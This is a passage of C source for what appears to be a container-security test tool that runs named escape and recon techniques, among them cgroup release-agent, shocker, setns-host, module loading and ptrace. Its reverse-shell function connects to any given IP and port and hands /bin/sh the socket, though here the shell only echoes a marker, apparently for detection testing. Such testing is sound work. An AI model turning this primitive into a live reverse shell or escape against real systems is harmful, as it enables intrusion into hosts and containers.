	int s, rc, e;

	if (argc < 3 || inet_pton(AF_INET, argv[1], &sa.sin_addr) != 1)
		return usage("IPV4-ADDRESS PORT");
	sa.sin_port = htons((uint16_t)atoi(argv[2]));
	s = socket(AF_INET, SOCK_STREAM, 0);
	if (s < 0)
		return prep_failed("socket(AF_INET)");
	rc = connect(s, (struct sockaddr *)&sa, sizeof(sa));
	e = errno;
	report(rc, e, "connect(%s:%s), %s onto 0, 1, 2, execve(/bin/sh -c 'echo ...')", argv[1], argv[2],
	       use_dup3 ? "dup3" : "dup2");
	if (rc < 0)
		return 0;
	for (int fd = 0; fd < 3; fd++)
		if ((use_dup3 ? dup3(s, fd, 0) : dup2(s, fd)) < 0)
			return 1;
	close(s);
	execl("/bin/sh", "sh", "-c", use_dup3 ? "echo attack-marker reverse-shell-dup3" :
		"echo attack-marker reverse-shell", (char *)NULL);
	return 1;
}

static int t_reverse_shell(int argc, char **argv) { return reverse_shell(argc, argv, 0); }
static int t_reverse_shell_dup3(int argc, char **argv) { return reverse_shell(argc, argv, 1); }

// ---- recon ------------------------------------------------------------------

static int t_packet_socket(int argc, char **argv)
{
	int fd, e;

	(void)argc, (void)argv;
	fd = socket(AF_PACKET, SOCK_RAW | SOCK_CLOEXEC, 0);
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "socket(AF_PACKET, SOCK_RAW, 0), closed");
	return 0;
}

static int t_perf_event(int argc, char **argv)
{
	struct perf_event_attr a;
	long fd;
	int e;

	(void)argc, (void)argv;
	memset(&a, 0, sizeof(a));
	a.type = PERF_TYPE_SOFTWARE;
	a.size = sizeof(a);
	a.config = PERF_COUNT_SW_TASK_CLOCK;
	a.disabled = 1;
	a.exclude_kernel = 1;
	a.exclude_hv = 1;
	fd = syscall(SYS_perf_event_open, &a, 0, -1, -1, PERF_FLAG_FD_CLOEXEC);
	e = errno;
	if (fd >= 0)
		close(fd);
	report(fd, e, "perf_event_open(software task-clock, this process), closed");
	return 0;
}

// ---- the table ----------------------------------------------------------------

static const struct technique {
	const char *name;
	int (*fn)(int argc, char **argv);
	const char *args;
} techniques[] = {
	{ "mount-cgroup1", t_mount_cgroup1, "[CONTROLLER (net_cls)]" },
	{ "mount-proc", t_mount_proc, "" },
	{ "mount-sysfs", t_mount_sysfs, "" },
	{ "mount-rootdev", t_mount_rootdev, "MAJOR:MINOR FSTYPE" },
	{ "fsmount", t_fsmount, "[FSTYPE (tmpfs)]" },
	{ "pivot-root", t_pivot_root, "" },
	{ "write-back", t_write_back, "PATH" },
	{ "sysrq-open", t_sysrq_open, "" },
	{ "shocker", t_shocker, "" },
	{ "setns-host", t_setns_host, "[PID (1)]" },
	{ "release-agent", t_release_agent, "[MOUNT-OPTIONS (none,name=bhatk)]" },
	{ "notify-on-release", t_notify_on_release, "[CGROUP-V1-DIR (/sys/fs/cgroup/memory)]" },
	{ "cgroup2-root", t_cgroup2_root, "" },
	{ "unshare-user", t_unshare_user, "" },
	{ "unshare-mnt", t_unshare_mnt, "" },
	{ "unshare-user-mnt", t_unshare_user_mnt, "" },
	{ "clone-ns", t_clone_ns, "" },
	{ "setns-peer", t_setns_peer, "[PID (a child in its own UTS namespace)]" },
	{ "init-module", t_init_module, "" },
	{ "finit-module", t_finit_module, "" },
	{ "bpf-map", t_bpf_map, "" },
	{ "module-request", t_module_request, "[ADDRESS-FAMILY (31, AF_BLUETOOTH)]" },
	{ "ptrace-attach", t_ptrace_attach, "PID" },
	{ "vm-writev", t_vm_writev, "" },
	{ "proc-mem-write", t_proc_mem_write, "" },
	{ "connect-unix", t_connect_unix, "SOCKET-PATH" },
	{ "listen", t_listen, "SOCKET-PATH... (host helper)" },
	{ "memfd-exec", t_memfd_exec, "[SOURCE-BINARY (/bin/busybox)]" },
	{ "drift-write", t_drift_write, "[SOURCE-BINARY (/bin/busybox) [DEST (/tmp/busybox)]]" },
	{ "read-file", t_read_file, "PATH [BYTES (16)]" },
	{ "open-write", t_open_write, "PATH" },
	{ "setuid0", t_setuid0, "" },
	{ "capset", t_capset, "" },
	{ "userfaultfd", t_userfaultfd, "" },
	{ "keyctl", t_keyctl, "" },
	{ "io-uring", t_io_uring, "" },
	{ "reverse-shell", t_reverse_shell, "IPV4-ADDRESS PORT" },
	{ "reverse-shell-dup3", t_reverse_shell_dup3, "IPV4-ADDRESS PORT" },
	{ "packet-socket", t_packet_socket, "" },
	{ "perf-event", t_perf_event, "" },
};

int main(int argc, char **argv)
{
	size_t n = sizeof(techniques) / sizeof(techniques[0]);

	if (argc >= 2 && strcmp(argv[1], "list") == 0) {
		for (size_t i = 0; i < n; i++)
			printf("%s %s\n", techniques[i].name, techniques[i].args);
		return 0;
	}
	for (size_t i = 0; argc >= 2 && i < n; i++) {
		if (strcmp(argv[1], techniques[i].name) == 0) {
			tech = techniques[i].name;
			return techniques[i].fn(argc - 1, argv + 1);
		}
	}
	fprintf(stderr, "usage: attack <technique> [args]   (attack list: the techniques)\n");
	return 2;
}
